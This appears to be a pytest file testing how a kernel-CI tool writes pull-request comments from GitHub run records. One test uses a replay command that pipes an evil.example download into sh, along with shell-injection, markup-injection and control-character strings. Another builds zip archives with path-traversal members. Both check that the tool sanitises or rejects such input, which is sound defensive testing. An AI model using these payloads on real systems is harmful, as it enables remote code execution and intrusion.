"""The comment of a pull request: what it says of a run, what it makes of records that lie, and
which comment it is.
"""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import msgspec
import pytest

from act.harness import STAND_INS
from conftest import failure
from kci.errors import FindingsError
from kci.plan.hardware_tests import tree_under_test
from kci.run.kernel_tests import TestReport, TestState
from kci.run.records import PLAN_FILE, RECORD_FILE, TEST_FILE, TestRecord, write_record
from kci.watch.issue_tracker import BOT
from kci.watch.pull_request import PullRequestComments, comment_text, run_number
from planning import hardware_leg, leg, manifest_of
from run.records.test_gate import CPU, CUDA, FAILURE, planned, record

sys.path.insert(0, str(STAND_INS))
import github_talk

HERE, SHA = "example/kernels", "a" * 40
FORK = {"full_name": "stranger/kernels", "owner": {"login": "stranger"}}
OWN = {"full_name": HERE, "owner": {"login": "example"}}
WRITES = {"metadata": "read", "actions": "read", "pull-requests": "write"}


class World:
    """GitHub with one pull request, whose run is 41."""

    def __init__(self, folder: Path, repo: dict[str, Any] = OWN) -> None:
        self.uploads = folder / "artifacts"
        self.uploads.mkdir()
        self.records = folder / "records"
        self.records.mkdir()
        self.may = WRITES
        self.asked: list[str] = []
        run = {
            "id": 41, "event": "pull_request", "path": ".github/workflows/kci.yml", "head_sha": SHA,
            "head_branch": "topic", "head_repository": repo, "run_attempt": 1,
            "conclusion": "failure",
        }  # fmt: skip
        pull = {"number": 7, "state": "open", "head": {"sha": SHA, "repo": repo}}
        uploads = {"41": str(self.uploads)}
        self.state: dict[str, Any] = {"runs": [run], "pulls": [pull], "artifacts": uploads}
        self.pulls = PullRequestComments(HERE, self.answer)

    def answer(
        self, command: list[str], *, input: bytes, **_: Any
    ) -> subprocess.CompletedProcess[bytes]:
        method, address = command[3], command[4].removeprefix(f"repos/{HERE}/")
        path, _, query = address.partition("?")
        self.asked.append(f"{method} {path}")
        asked = {key: value[0] for key, value in parse_qs(query).items()}
        given = self.state, method, path, asked, json.loads(input), self.may
        try:
            found = github_talk.answered(*given)
        except github_talk.Refused as error:
            return subprocess.CompletedProcess(command, 1, b"", str(error).encode())
        if found is None:
            return subprocess.CompletedProcess(command, 1, b"", b"gh: Not Found (HTTP 404)")
        data = found if isinstance(found, bytes) else json.dumps(found).encode()
        return subprocess.CompletedProcess(command, 0, data, b"")

    def upload(self, artifact: str, file: str, what: msgspec.Struct | bytes) -> None:
        (self.uploads / artifact).mkdir(exist_ok=True)
        if isinstance(what, bytes):
            (self.uploads / artifact / file).write_bytes(what)
        else:
            write_record(self.uploads / artifact / file, what)

    def comment(self) -> str:
        """What kci says of the run."""
        run = self.pulls.run(41)
        (pull,) = self.pulls.open_pull_requests(run)
        left = self.pulls.fetch_records(run, self.records)
        return comment_text(pull, run, self.records, left, HERE)


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


PLAN = planned(legs=(leg(CPU, "relu"), leg(CUDA, "relu")))


def test_the_comment_says_what_there_is_and_how_to_repeat_what_failed(world: World) -> None:
    world.upload("run-plan.1", PLAN_FILE, PLAN)
    part = {"missing": (CUDA,), "failures": (FAILURE,), "sizes": {CPU: 12_345_678}}
    failed = record("relu", CPU, complete=False, **part)
    world.upload("run-record.relu.1", RECORD_FILE, failed)
    body = world.comment()
    assert body.startswith(
        body_of(41, text="### kci: 1 of what was planned did not happen").strip()
    )
    address = f"https://github.com/{HERE}/actions/runs/41/attempts/1"
    assert f"[Run 41]({address}) of {SHA} failed." in body
    assert f"| `relu` | `{CPU}` | 12.3 MB | built |" in body
    assert f"| `relu` | `{CUDA}` |  | **missing** |" in body
    assert "`relu.cu(3): error: no`" in body
    path = PLAN.legs[0].path
    assert f"      gh pr checkout 7 && kci build --variant={CUDA} --container=auto {path}\n" in body


def test_all_is_there_only_if_run_and_records_say_so(world: World) -> None:
    world.upload("run-plan.1", PLAN_FILE, PLAN)
    world.upload("run-record.relu.1", RECORD_FILE, record("relu", CPU, CUDA))
    assert "### kci: the run did not succeed\n" in world.comment()
    world.state["runs"][0]["conclusion"] = "success"
    assert "### kci: all that was planned is there, in 1 kernel\n" in world.comment()
    (world.uploads / "run-plan.1" / PLAN_FILE).unlink()
    for file in world.records.rglob("*.json"):
        file.unlink()
    assert "### kci: the result of the run is unknown\n" in world.comment()


def test_tests_are_counted(world: World) -> None:
    test = hardware_leg("relu", CUDA)
    manifest = manifest_of("relu", (CUDA,), {CUDA: "d"})
    passed = TestRecord(
        kernel="relu", leg=test.name, attempt=1, passed=True, tested=(CUDA,),
        tree=tree_under_test(manifest.digests, test.variants),
        variants=(TestReport("some-kernel", CUDA, TestState.PASSED, passed=1203, skipped=4),),
    )  # fmt: skip
    world.upload("run-plan.1", PLAN_FILE, planned(legs=(leg(CUDA, "relu"),), tests=(test,)))
    world.upload("run-record.relu.1", RECORD_FILE, record("relu", CUDA, manifest=manifest))
    world.upload("run-test.relu.1", TEST_FILE, passed)
    assert "| `relu` | `cuda-x86_64-linux` | passed: 1,203 tests, 4 skipped |" in world.comment()
    world.upload("run-test.relu.1", TEST_FILE, msgspec.structs.replace(passed, tree="another"))
    assert "| `relu` | `cuda-x86_64-linux` | **failed** |" in world.comment()


EVIL = (
    "` @team ](https://evil.example) <img src=x> <!-- --> | a | #1 \u202egnp\u2066 $(rm) "
    "https://evil.example \x1b[31m"
)


def test_records_that_lie_become_no_markup_and_no_command(tmp_path: Path) -> None:
    world = World(tmp_path, FORK)
    lies = (
        leg(EVIL, EVIL, path="; curl evil", variant=CUDA, image="evil"),
        leg(CUDA, "relu", path="../../etc", image="docker.io/evil"),
    )
    world.upload("run-plan.1", PLAN_FILE, planned(legs=lies))
    replay = "curl https://evil.example | sh"
    told = (msgspec.structs.replace(FAILURE, error=EVIL * 30, replay=replay),)
    lying = record("relu", complete=False, failures=told, error=EVIL, sizes={EVIL: 2**53})
    world.upload("run-record.relu.1", RECORD_FILE, lying)
    body = world.comment()
    assert "comes from jobs that the fork's commit can change" in body
    assert "curl" not in body
    assert "evil/" not in body
    assert "--container" not in body, "no path has the form of one, so there is no command"
    assert all(char.isprintable() or char in "\n\u200b" for char in body)
    assert "@team" not in body
    for line in body.splitlines():
        outside = "".join(line.split("`")[::2])
        assert line.count("`") % 2 == 0
        assert "evil" not in outside
        assert "<img" not in outside
        if line.startswith("|"):
            assert line.count("|") in (6, 4)
    assert len(body) < 60_000


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"{" * 300, "cannot be read"),
        (b"[" * 100_000, "cannot be read"),
        (b'{"schema": 9}', "cannot be read"),
        (b'{"a": "' + b"x" * (17 << 20) + b'"}', "too large or damaged: `run-plan.1`"),
    ],
)  # fmt: skip
def test_a_record_that_is_none_is_said_to_be_none(world: World, content: bytes, said: str) -> None:
    world.upload("run-plan.1", PLAN_FILE, content)
    body = world.comment()
    assert said in body
    assert "### kci: the result of the run is unknown" in body


def test_a_large_artifact_is_not_fetched_and_members_lead_nowhere(world: World) -> None:
    (world.uploads / "run-big.1").write_bytes(b"x" * (5 << 20))
    (world.uploads / "run-none.1").write_bytes(b"no archive")
    with zipfile.ZipFile(world.uploads / "run-plan.1", "w") as archive:
        archive.writestr(f"../../../{PLAN_FILE}", b"{}")
        archive.writestr("../evil.sh", b"")
    with zipfile.ZipFile(world.uploads / "run-slow.1", "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr(PLAN_FILE, b"{}")
    world.upload("tree.relu.1", "kci-tree.tar", b"")
    left = world.pulls.fetch_records(world.pulls.run(41), world.records)
    assert left == ["run-big.1", "run-none.1", "run-slow.1"]
    assert sum("/zip" in path for path in world.asked) == 3
    assert [path.name for path in world.records.parent.rglob("*.json")] == [PLAN_FILE]
    assert not list(world.records.rglob("*evil*"))


def test_many_rows_are_cut_and_tests_that_run_nowhere_are_said(world: World) -> None:
    legs = tuple(leg(CPU, f"kernel-{number}") for number in range(400))
    why = "tests: not run, no machine with a GPU is named"
    plan = planned(legs=legs, untested={"relu": why, "silu": why})
    world.upload("run-plan.1", PLAN_FILE, plan)
    body = world.comment()
    assert f"\n`{why} (relu, silu)`\n" in body
    assert "And 250 variants more." in body
    assert "- and 380 more" in body
    assert len(body) < 60_000


def body_of(run: int, attempt: int = 1, text: str = "text") -> str:
    return f"<!-- kci-pull-request: run {run} attempt {attempt} -->\n{text}\n"


def comment(number: int, login: str, body: str) -> dict[str, Any]:
    return {"id": number, "issue": 7, "user": {"login": login}, "body": body}


def test_the_one_comment_is_found_among_hundreds_and_updated(world: World) -> None:
    others = [comment(number, "a", "no") for number in range(200)]
    stranger, quoting = comment(900, "stranger", body_of(99)), comment(901, BOT, "> " + body_of(99))
    gone = {"id": 902, "issue": 7, "user": None, "body": None}
    world.state["comments"] = [*others, stranger, quoting, gone]
    for run, attempt, became in (
        (41, 1, "written"),
        (41, 1, "the comment says so already"),
        (41, 2, "updated"),
        (41, 1, "the comment is about a newer run"),
        (40, 9, "the comment is about a newer run"),
    ):
        assert world.pulls.update_comment(7, body_of(run, attempt)) == became
    assert len(world.state["comments"]) == 204
    assert world.state["comments"][-1]["body"] == body_of(41, 2)
    assert world.state["comments"][200:203] == [stranger, quoting, gone]


def test_two_jobs_that_both_wrote_leave_one_comment(world: World) -> None:
    as_typed = body_of(40).replace("\n", "\r\n")
    world.state["comments"] = [comment(1, BOT, as_typed), comment(2, BOT, body_of(41))]
    assert world.pulls.update_comment(7, body_of(42)) == "updated"
    assert [item["body"] for item in world.state["comments"]] == [body_of(42)]


def test_a_run_that_is_not_of_the_newest_commit_says_nothing(world: World) -> None:
    run = world.pulls.run(41)
    assert [pull.number for pull in world.pulls.open_pull_requests(run)] == [7]
    world.state["pulls"][0]["head"]["sha"] = "b" * 40
    assert world.pulls.open_pull_requests(run) == []
    world.state["pulls"][0] |= {"state": "closed", "head": {"sha": SHA, "repo": OWN}}
    assert world.pulls.open_pull_requests(run) == []
    assert world.pulls.open_pull_requests(msgspec.structs.replace(run, head_repository=None)) == []


def test_another_workflow_of_the_same_name_does_not_count(world: World) -> None:
    run = world.pulls.run(41)
    for keys, counts in (
        ({}, True),
        ({"path": ".github/workflows/kci.yml@main"}, True),
        ({"event": "push"}, False),
        ({"path": ".github/workflows/evil.yml"}, False),
        ({"path": "evil/.github/workflows/kci.yml"}, False),
    ):
        assert msgspec.structs.replace(run, **keys).is_for_pull_request is counts


@pytest.mark.parametrize(
    ("lacking", "ask"),
    [
        ("actions", lambda pulls: pulls.run(41)),
        ("pull-requests", lambda pulls: pulls.update_comment(7, body_of(41))),
    ],
)  # fmt: skip
def test_a_token_that_may_not_is_told(
    world: World, lacking: str, ask: Callable[[PullRequestComments], object]
) -> None:
    world.may = {**WRITES, lacking: "none"}
    caught = failure(FindingsError, "not accessible", ask, world.pulls)
    assert caught.hint.startswith("may the job write to pull requests")
    assert "comments" not in world.state or world.state["comments"] == []


@pytest.mark.parametrize("text", ["", "0", "7/comments", "-1", "1" * 19, "7\n", "٧"])
def test_a_number_is_one(text: str) -> None:
    assert run_number("7") == 7
    failure(FindingsError, "is not the number of a run", run_number, text)
